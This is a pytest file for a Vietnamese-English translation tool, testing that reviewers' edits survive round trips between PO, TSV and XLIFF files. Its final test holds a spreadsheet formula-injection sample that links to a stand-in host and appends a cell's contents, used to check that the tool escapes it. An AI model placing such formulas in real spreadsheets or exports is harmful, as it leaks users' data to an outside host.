"""A reviewer's work is never lost: every path of the PO/TSV round trip, as spreadsheets and editors leave it."""

from __future__ import annotations

import os
import shutil
import stat
from pathlib import Path

import polib
import pytest

from conftest import GLOSSARY, SEEDS, translate_argv
from songngu.cli.main import main
from songngu.lock import LOCK_FILE, folder_lock

DOC = "003_51d24c9f3e5c9daa"
REFS = SEEDS / "references"


@pytest.fixture(scope="module")
def translated_once(tiny_model: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """docs/ and aligned/ with the machine translation of one seed that has a reference, made once."""
    root = tmp_path_factory.mktemp("roundtrip")
    docs, out = root / "docs", root / "aligned"
    docs.mkdir()
    shutil.copy(SEEDS / "000_df3434ea04ffe04a.txt", docs / f"{DOC}.txt")
    assert main(translate_argv(docs / f"{DOC}.txt", tiny_model, out, "--refs", str(root / "none"))) == 0
    return root


@pytest.fixture()
def translated(translated_once: Path, tmp_path: Path) -> Path:
    """A fresh copy of that aligned/ (and its docs/) for each test to edit: the model ran once a module,
    not once a test."""
    for folder in ("docs", "aligned"):
        shutil.copytree(translated_once / folder, tmp_path / folder, symlinks=True)
    return tmp_path / "aligned"


def rerun(model: Path, out: Path, *extra: str) -> int:
    return main(
        translate_argv(
            out.parent / "docs" / f"{DOC}.txt", model, out, "--refs", str(out.parent / "none"), *extra
        )
    )


def tsv_rows(out: Path) -> list[list[str]]:
    return [line.split("\t") for line in (out / f"{DOC}.tsv").read_text("utf-8").splitlines()]


def write_tsv(out: Path, rows: list[list[str]]) -> None:
    (out / f"{DOC}.tsv").write_text("".join("\t".join(r) + "\n" for r in rows), encoding="utf-8")


def po_entry(out: Path, sentence: str) -> polib.POEntry:
    return next(e for e in polib.pofile(str(out / f"{DOC}.po")) if e.msgctxt == sentence and not e.obsolete)


def edit_cell(out: Path, sentence: str, column: int, value: str) -> None:
    rows = tsv_rows(out)
    next(r for r in rows if r[0] == sentence)[column] = value
    write_tsv(out, rows)


# ---------------------------------------------------------------- edits that disappeared


@pytest.mark.parametrize("command", ["apply", "score"])
def test_a_tsv_edit_survives_review_apply_and_score(translated: Path, command: str) -> None:
    edit_cell(translated, "1.1", 2, "Edited in a spreadsheet.")
    if command == "apply":
        assert main(["review", "apply", str(translated), "--refs", str(REFS)]) == 0
    else:
        shutil.copy(REFS / "000_df3434ea04ffe04a.en.txt", translated.parent / f"{DOC}.en.txt")
        assert (
            main(["score", str(translated), "--refs", str(translated.parent), "--glossary", str(GLOSSARY)])
            == 0
        )
    assert po_entry(translated, "1.1").msgstr == "Edited in a spreadsheet."
    assert "fuzzy" not in po_entry(translated, "1.1").flags
    assert tsv_rows(translated)[1][2:4] == ["Edited in a spreadsheet.", "reviewed"]


def test_a_tsv_without_its_po_is_translated_into_a_new_po(tiny_model: Path, translated: Path, capsys) -> None:
    edit_cell(translated, "1.1", 2, "Kept from the TSV.")
    (translated / f"{DOC}.po").unlink()
    assert rerun(tiny_model, translated) == 0
    assert po_entry(translated, "1.1").msgstr == "Kept from the TSV."
    assert f"{DOC}.po was missing; rebuilt it from {DOC}.tsv" in capsys.readouterr().err


def test_a_vietnamese_cell_a_spreadsheet_rewrote_still_lets_the_edit_through(
    tiny_model: Path, translated: Path, capsys
) -> None:
    rows = tsv_rows(translated)
    rows[1][1] = rows[1][1] + " (07/04/2020)"  # a cell a spreadsheet reformatted
    rows[1][2] = "Edited beside a rewritten source."
    write_tsv(translated, rows)
    assert rerun(tiny_model, translated) == 0
    assert po_entry(translated, "1.1").msgstr == "Edited beside a rewritten source."
    err = capsys.readouterr().err
    assert f"{DOC}.tsv:2: the Vietnamese of sentence 1.1 differs from the PO's" in err


def test_status_set_to_reviewed_accepts_the_machine_english(tiny_model: Path, translated: Path) -> None:
    machine = po_entry(translated, "1.2").msgstr
    edit_cell(translated, "1.2", 3, "reviewed")
    assert rerun(tiny_model, translated) == 0
    accepted = po_entry(translated, "1.2")
    assert accepted.msgstr == machine and "fuzzy" not in accepted.flags


def test_a_quotation_over_two_sentences_keeps_both_rows(tiny_model: Path, translated: Path) -> None:
    rows = tsv_rows(translated)
    rows[1][2] = '"The quote begins here.'
    rows[2][2] = 'and ends here."'
    write_tsv(translated, rows)
    assert rerun(tiny_model, translated) == 0
    assert po_entry(translated, rows[1][0]).msgstr == '"The quote begins here.'
    assert po_entry(translated, rows[2][0]).msgstr == 'and ends here."'
    again = tsv_rows(translated)
    assert len(again) == len(rows) and again[1][3] == again[2][3] == "reviewed"


def test_an_id_a_spreadsheet_retyped_as_a_number_is_matched_by_its_place(
    tiny_model: Path, tmp_path: Path
) -> None:
    doc = tmp_path / "docs" / f"{DOC}.txt"
    doc.parent.mkdir()
    doc.write_text(" ".join(f"Câu số {i} nói về Hà Nội." for i in range(1, 12)) + "\n", encoding="utf-8")
    out = tmp_path / "aligned"
    assert main(translate_argv(doc, tiny_model, out, "--refs", str(tmp_path / "none"))) == 0
    rows = tsv_rows(out)
    assert rows[10][0] == "1.10"
    rows[10][0], rows[10][2] = "1.1", "Sentence ten, retyped id."
    write_tsv(out, rows)
    assert rerun(tiny_model, out) == 0
    assert po_entry(out, "1.10").msgstr == "Sentence ten, retyped id."
    assert "fuzzy" in po_entry(out, "1.1").flags  # the real 1.1 is untouched


def test_a_row_that_cannot_be_applied_is_named(tiny_model: Path, translated: Path, capsys) -> None:
    rows = tsv_rows(translated)
    rows.append(["9.9", "Không có câu này.", "No such sentence.", "reviewed", ""])
    write_tsv(translated, rows)
    assert rerun(tiny_model, translated) == 0
    line = len(rows)
    assert (
        f"{DOC}.tsv:{line}: id '9.9' is not a sentence of this document; row not applied"
        in capsys.readouterr().err
    )


def test_a_po_saved_while_a_run_was_scoring_is_not_overwritten(translated: Path, monkeypatch, capsys) -> None:
    from songngu.app import score_folder as scoring

    shutil.copy(REFS / "000_df3434ea04ffe04a.en.txt", translated.parent / f"{DOC}.en.txt")
    real = scoring.score_corpus

    def reviewer_saves_meanwhile(inputs):
        po = polib.pofile(str(translated / f"{DOC}.po"), wrapwidth=0)
        po[0].msgstr, po[0].flags = "Saved in Poedit during scoring.", []
        po.save()
        return real(inputs)

    monkeypatch.setattr(scoring, "score_corpus", reviewer_saves_meanwhile)
    argv = ["score", str(translated), "--refs", str(translated.parent), "--glossary", str(GLOSSARY)]
    assert main(argv) == 2
    assert "changed on disk while songngu was working" in capsys.readouterr().err
    assert po_entry(translated, "1.1").msgstr == "Saved in Poedit during scoring."


def test_a_second_command_on_the_same_folder_is_refused(tiny_model: Path, translated: Path, capsys) -> None:
    from filelock import FileLock

    with FileLock(str(translated / LOCK_FILE)):  # as another process would hold it
        assert rerun(tiny_model, translated) == 2
        assert main(["review", "apply", str(translated)]) == 2
    err = capsys.readouterr().err
    assert err.count(f"another songngu command is writing in {translated}") == 2
    with folder_lock(translated), folder_lock(translated):  # one process may nest it
        pass


def test_two_documents_with_one_name_are_refused(tiny_model: Path, tmp_path: Path, capsys) -> None:
    for folder in ("a", "b"):
        (tmp_path / folder).mkdir()
        shutil.copy(SEEDS / f"{DOC}.txt", tmp_path / folder / "doc1.txt")
    argv = translate_argv(tmp_path / "a" / "doc1.txt", tiny_model, tmp_path / "out")
    assert main([argv[0], str(tmp_path / "b" / "doc1.txt"), *argv[1:]]) == 2
    assert "would both be written as doc1.po" in capsys.readouterr().err
    assert not (tmp_path / "out" / "doc1.po").exists()


def test_out_pointing_at_the_references_leaves_them_alone(tiny_model: Path, tmp_path: Path, capsys) -> None:
    refs = tmp_path / "references"
    shutil.copytree(REFS, refs)
    before = (refs / "000_df3434ea04ffe04a.en.txt").read_bytes()
    assert main(translate_argv(SEEDS / "000_df3434ea04ffe04a.txt", tiny_model, refs)) == 1
    assert "was not written by songngu; it is left alone" in capsys.readouterr().err
    assert (refs / "000_df3434ea04ffe04a.en.txt").read_bytes() == before


def test_header_fields_a_reviewer_added_survive_a_rerun(tiny_model: Path, translated: Path) -> None:
    po = polib.pofile(str(translated / f"{DOC}.po"), wrapwidth=0)
    po.metadata["Last-Translator"] = "Lan Nguyen <lan@example.org>"
    po.metadata["Language-Team"] = "ACVN communications"
    po.metadata["X-Poedit-Basepath"] = "."
    po.save()
    assert rerun(tiny_model, translated) == 0
    metadata = polib.pofile(str(translated / f"{DOC}.po")).metadata
    assert metadata["Last-Translator"] == "Lan Nguyen <lan@example.org>"
    assert metadata["Language-Team"] == "ACVN communications" and metadata["X-Poedit-Basepath"] == "."
    assert metadata["X-Songngu-Backend"] == "transformers, float32, 1 beams"


# ---------------------------------------------------------------- files and modes


def test_written_files_keep_their_mode_and_leftover_temp_files_are_cleared(
    tiny_model: Path, translated: Path
) -> None:
    po = translated / f"{DOC}.po"
    po.chmod(0o640)
    leftover = translated / f".{DOC}.po.abc123.songngu.tmp"
    leftover.write_text("half", encoding="utf-8")
    assert rerun(tiny_model, translated) == 0
    assert stat.S_IMODE(po.stat().st_mode) == 0o640
    assert stat.S_IMODE((translated / f"{DOC}.en.txt").stat().st_mode) == 0o666 & ~_umask()
    assert not leftover.exists()


def test_a_read_only_glossary_is_not_replaced(glossary_copy: Path, capsys) -> None:
    glossary_copy.chmod(0o444)
    before = glossary_copy.read_bytes()
    assert (
        main(["glossary", "--glossary", str(glossary_copy), "add", "Bộ Tài chính", "Ministry of Finance"])
        == 2
    )
    assert "is read-only; songngu does not replace it" in capsys.readouterr().err
    assert glossary_copy.read_bytes() == before


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


# ---------------------------------------------------------------- one figure for term success


def test_term_success_counts_the_final_english_like_score(tiny_model: Path, translated: Path, capsys) -> None:
    entry = po_entry(translated, "1.1")
    assert "terms: " in entry.comment
    po = polib.pofile(str(translated / f"{DOC}.po"), wrapwidth=0)
    po[0].msgstr, po[0].flags = "A reviewed sentence without its names.", []
    po.save()
    capsys.readouterr()
    shutil.copy(REFS / "000_df3434ea04ffe04a.en.txt", translated.parent / f"{DOC}.en.txt")
    assert rerun(tiny_model, translated, "--refs", str(translated.parent)) == 0
    captured = capsys.readouterr()
    out = captured.out
    summary = next(line for line in out.splitlines() if "term success" in line and " document" in line)
    scored = next(line for line in out.splitlines() if line.startswith("corpus"))
    assert summary.split("term success ")[1] == scored.split()[-1]
    assert summary.split("term success ")[1] != "100.0%"
    assert f"check: {DOC} 1.1: the reviewed English lacks the required term 'UCLG World'" in captured.err


def test_an_edit_not_yet_accepted_is_not_called_reviewed(tiny_model: Path, translated: Path, capsys) -> None:
    """A fuzzy entry whose English a person changed was reported as 'the reviewed English'."""
    po = polib.pofile(str(translated / f"{DOC}.po"), wrapwidth=0)
    po[0].msgstr = "An edit still marked fuzzy, without its names."
    assert "fuzzy" in po[0].flags
    po.save()
    capsys.readouterr()
    assert rerun(tiny_model, translated) == 0  # a person's edit does not fail the run
    err = capsys.readouterr().err
    assert (
        f"check: {DOC} 1.1: the edited English (not yet accepted) lacks the required term 'UCLG World'" in err
    )
    assert "reviewed English" not in err


def test_review_apply_of_tsv_edits_stamps_the_po_and_headers_name_the_model_folder(
    tiny_model: Path, translated: Path, capsys
) -> None:
    """apply left PO-Revision-Date and Last-Translator as the machine wrote them, and
    X-Songngu-Model held the absolute path of the model on the translator's disk."""
    po_path = translated / f"{DOC}.po"
    assert polib.pofile(str(po_path)).metadata["X-Songngu-Model"] == tiny_model.name
    tsv = translated / f"{DOC}.tsv"
    lines = tsv.read_text(encoding="utf-8").splitlines()
    cells = lines[1].split("\t")
    cells[2] = "Edited in a spreadsheet."
    tsv.write_text("\n".join([lines[0], "\t".join(cells), *lines[2:]]) + "\n", encoding="utf-8")
    assert (
        main(["review", "apply", str(translated), "--translator", "Minh <minh@fcm.ca>", "--no-glossary"]) == 0
    )
    metadata = polib.pofile(str(po_path)).metadata
    assert metadata["Last-Translator"] == "Minh <minh@fcm.ca>" and metadata["PO-Revision-Date"] > "2026"


# ---------------------------------------------------------------- rounds of edits (#32)


def apply(out: Path, *files: Path) -> int:
    return main(
        ["review", "apply", *(str(f) for f in files or [out]), "--out", str(out), "--refs", str(REFS)]
    )


def test_a_second_and_third_round_of_tsv_edits_are_applied(translated: Path, capsys) -> None:
    """The second round was thrown away with exit 0 ('edited in both the PO and the TSV; kept the PO's')."""
    for round_ in ("First", "Second", "Third"):
        for sentence in ("1.1", "2.1"):
            edit_cell(translated, sentence, 2, f"{round_} edit of {sentence}.")
        assert apply(translated) == 0
        assert [po_entry(translated, s).msgstr for s in ("1.1", "2.1")] == [
            f"{round_} edit of 1.1.",
            f"{round_} edit of 2.1.",
        ]
    assert "kept the PO's" not in capsys.readouterr().err


def test_a_tsv_edit_after_a_workbench_save_is_applied(translated: Path) -> None:
    from songngu.app.workbench import Workbench, save_sentence

    bench = Workbench(translated, GLOSSARY)
    base = po_entry(translated, "1.1").msgstr
    save_sentence(bench, DOC, "1.1", "Saved on the page.", base, "reviewed")
    edit_cell(translated, "1.1", 2, "Then edited in the spreadsheet.")
    assert apply(translated) == 0
    assert po_entry(translated, "1.1").msgstr == "Then edited in the spreadsheet."


def test_an_edit_of_both_the_po_and_the_tsv_names_both_texts_and_exits_1(translated: Path, capsys) -> None:
    edit_cell(translated, "1.1", 2, "The spreadsheet's English.")
    po = polib.pofile(str(translated / f"{DOC}.po"))
    next(e for e in po if e.msgctxt == "1.1").msgstr = "Poedit's English."
    po.save()
    assert apply(translated) == 1
    err = capsys.readouterr().err
    assert "'Poedit's English.'" in err and "'The spreadsheet's English.'" in err and "TSV" not in err
    assert po_entry(translated, "1.1").msgstr == "Poedit's English."


@pytest.mark.parametrize("spelling", ["done", "OK", "Reviewed", "x"])
def test_common_spellings_of_reviewed_accept_the_sentence(translated: Path, spelling: str) -> None:
    edit_cell(translated, "1.1", 3, spelling)
    assert apply(translated) == 0
    assert po_entry(translated, "1.1").flags == []


def test_a_status_songngu_does_not_know_is_named_with_its_line(translated: Path, capsys) -> None:
    edit_cell(translated, "2.1", 3, "finished-ish")
    assert apply(translated) == 0
    line = next(n for n, r in enumerate(tsv_rows(translated), 1) if r[0] == "2.1")
    assert f"{DOC}.tsv:{line}: status 'finished-ish' of sentence 2.1 is not one songngu knows" in (
        capsys.readouterr().err
    )
    assert "fuzzy" in po_entry(translated, "2.1").flags


def test_an_xliff_file_none_of_whose_units_match_exits_1(translated: Path, tmp_path: Path, capsys) -> None:
    import re

    xlf = tmp_path / f"{DOC}.returned.xlf"
    text = (translated / f"{DOC}.xlf").read_text("utf-8")
    xlf.write_text(re.sub(r'(<trans-unit[^>]* id=")', r"\1x", text), encoding="utf-8")
    before = (translated / f"{DOC}.po").read_bytes()
    assert apply(translated, xlf) == 1
    assert "none of its" in capsys.readouterr().err
    assert (translated / f"{DOC}.po").read_bytes() == before


def test_an_xliff_conflict_names_the_xliff_file_not_the_tsv(translated: Path, tmp_path: Path, capsys) -> None:
    import re

    text = (translated / f"{DOC}.xlf").read_text("utf-8")
    xlf = tmp_path / f"{DOC}.returned.xlf"
    # The CAT tool's translator edits 1.1 while a reviewer changes it in Poedit.
    first = re.search(r'<trans-unit[^>]* id="1\.1".*?<target[^>]*>(.*?)</target>', text, re.S)
    assert first is not None
    xlf.write_text(
        text[: first.start(1)] + "The CAT tool's English." + text[first.end(1) :], encoding="utf-8"
    )
    po = polib.pofile(str(translated / f"{DOC}.po"))
    next(e for e in po if e.msgctxt == "1.1").msgstr = "Poedit's English."
    po.save()
    assert apply(translated, xlf) == 1
    err = capsys.readouterr().err
    assert f"{xlf}:" in err and "The CAT tool's English." in err and "TSV" not in err


def test_accepting_through_the_tsv_gives_the_po_the_workbench_gives(
    tiny_model: Path, translated: Path, tmp_path: Path
) -> None:
    """The workbench's accept cleared fuzzy and the previous msgid; the TSV's cleared only fuzzy."""
    from songngu.app.workbench import Workbench, save_sentence

    source = translated.parent / "docs" / f"{DOC}.txt"
    lines = source.read_text("utf-8").splitlines()
    source.write_text("\n".join(["Sáng nay, " + lines[0], *lines[1:]]) + "\n", encoding="utf-8")
    assert rerun(tiny_model, translated) == 0
    assert po_entry(translated, "1.1").previous_msgid  # the Vietnamese changed: #| msgid
    other = tmp_path / "other" / "aligned"
    shutil.copytree(translated, other)
    english = po_entry(translated, "1.1").msgstr
    edit_cell(translated, "1.1", 3, "reviewed")
    assert apply(translated) == 0
    save_sentence(Workbench(other, GLOSSARY), DOC, "1.1", english, english, "reviewed")
    by_tsv, by_page = po_entry(translated, "1.1"), po_entry(other, "1.1")
    assert (by_tsv.flags, by_tsv.previous_msgid) == (by_page.flags, by_page.previous_msgid) == ([], None)


# ---------------------------------------------------------------- spreadsheets run formulas (#32)


def test_a_formula_saved_on_the_page_is_text_in_the_tsv_and_reads_back_unchanged(translated: Path) -> None:
    from songngu.app.workbench import Workbench, save_sentence
    from songngu.review.tsv import read_tsv

    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    base = po_entry(translated, "1.1").msgstr
    save_sentence(Workbench(translated, GLOSSARY), DOC, "1.1", formula, base, "reviewed")
    cell = next(r for r in tsv_rows(translated) if r[0] == "1.1")[2]
    assert cell.startswith("'=") or cell.startswith("\"'=")
    assert next(p for p in read_tsv(translated / f"{DOC}.tsv") if p.id == "1.1").english == formula
    assert apply(translated) == 0 and po_entry(translated, "1.1").msgstr == formula
